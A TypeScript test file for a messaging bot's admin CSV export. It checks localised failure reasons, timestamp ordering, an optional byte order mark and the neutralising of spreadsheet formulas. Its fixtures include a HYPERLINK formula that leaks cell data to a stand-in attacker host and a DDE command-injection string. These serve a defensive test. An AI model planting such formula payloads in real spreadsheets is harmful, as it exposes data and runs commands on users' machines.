/**
 * The message record explains itself (issue 10 item 6): a failure's reason in words, in English
 * or the --lang given, with its key in its own column; a failure never dated before the send;
 * a byte order mark for Excel on request; and cells a spreadsheet would run as formulas
 * neutralised unless --raw.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { AdminUsageError, runAdmin } from '../../../bot/src/admin/admin-commands.js';
import { neutralise } from '../../../bot/src/admin/csv.js';
import { AppWorld, CONTACT_ID, alice } from '../app/world.js';

const DAY = '2026-01-05';
let w: AppWorld;

async function admin(...argv: string[]): Promise<string> {
  let out = '';
  await runAdmin(
    argv,
    w.store,
    () => undefined,
    { maxParticipants: 8 },
    {
      stdout: async (text) => {
        out += text;
      },
    },
  );
  return out;
}

/** RFC 4180 read back: rows as header → value. */
function rows(csv: string): Record<string, string>[] {
  const records: string[][] = [[]];
  let field = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      records.at(-1)!.push(field);
      field = '';
    } else if (c === '\r' && csv[i + 1] === '\n') {
      records.at(-1)!.push(field);
      records.push([]);
      field = '';
      i++;
    } else field += c;
  }
  const [header, ...data] = records.filter((r) => r.length > 0);
  return data.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
}

beforeAll(async () => {
  w = await new AppWorld().withContact();
  // The contact's name as a spreadsheet would run it: the user's own entry for them.
  await w.store.putContact({
    ...(await w.store.getContact(CONTACT_ID))!,
    name: '=HYPERLINK("http://evil.example/?"&A1;"Maria")',
  });
  await w.conversations.start(alice, CONTACT_ID);
  await w.dispatcher.drain(); // the opt-in: wamid.out1, sent at the world's clock
  // WhatsApp's `failed` carries whole seconds: it reads as earlier than our `sent`.
  await w.conversations.report({
    waMessageId: 'wamid.out1',
    status: 'failed',
    at: w.clock.now() - 700,
    failure: { graphCode: 131026, kind: 'other', reasonKey: 'reason.undeliverable' },
  });
});

describe('the CDR explains itself', () => {
  it('gives the reason in words, its key apart, and never a failure before the send', async () => {
    const [optIn] = rows(await admin('export', 'messages', '--from', DAY, '--to', DAY));
    expect(optIn).toMatchObject({
      status: 'failed',
      failure_code: '131026',
      failure_reason_key: 'reason.undeliverable',
    });
    expect(optIn!.failure_reason).toMatch(/^WhatsApp could not reach this number/);
    expect(Date.parse(optIn!.failed_at!)).toBeGreaterThanOrEqual(Date.parse(optIn!.sent_at!));
  });

  it('speaks the --lang given', async () => {
    const csv = await admin('export', 'messages', '--from', DAY, '--to', DAY, '--lang', 'de');
    expect(rows(csv)[0]!.failure_reason).toMatch(/^WhatsApp konnte diese Nummer nicht erreichen/);
    expect(rows(csv)[0]!.failure_reason_key).toBe('reason.undeliverable');
    await expect(
      admin('export', 'messages', '--from', DAY, '--to', DAY, '--lang', 'klingon'),
    ).rejects.toThrow(/--lang takes one of en, es, fr, de, pt-BR, it, ja, zh-CN/);
    await expect(admin('export', 'consent', '--lang', 'de')).rejects.toBeInstanceOf(
      AdminUsageError,
    );
  });

  it('starts with a byte order mark only when --bom asks', async () => {
    const plain = await admin('export', 'messages', '--from', DAY, '--to', DAY);
    expect(plain.startsWith('created_at,')).toBe(true);
    const bom = await admin('export', 'messages', '--from', DAY, '--to', DAY, '--bom');
    expect(Buffer.from(bom, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(bom.slice(1)).toBe(plain);
    expect((await admin('export', 'consent', '--bom')).charCodeAt(0)).toBe(0xfeff);
  });

  it('neutralises what a spreadsheet would run, unless --raw', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1;"Maria")';
    const safe = await admin('export', 'messages', '--from', DAY, '--to', DAY);
    expect(safe).toContain(`"'${evil.replaceAll('"', '""')}"`);
    expect(safe).not.toContain(`,"${evil.replaceAll('"', '""')}"`);
    // The phone number stays a number.
    expect(safe).toContain(',+447700900123,');
    const raw = await admin('export', 'messages', '--from', DAY, '--to', DAY, '--raw');
    expect(raw).toContain(`,"${evil.replaceAll('"', '""')}"`);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+cmd|"/c calc"!A0', `'+cmd|"/c calc"!A0`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['-1', '-1'],
    ['+447700900123', '+447700900123'],
    ['Maria', 'Maria'],
  ])('neutralise(%j) is %j', (cell, expected) => {
    expect(neutralise(cell)).toBe(expected);
  });
});
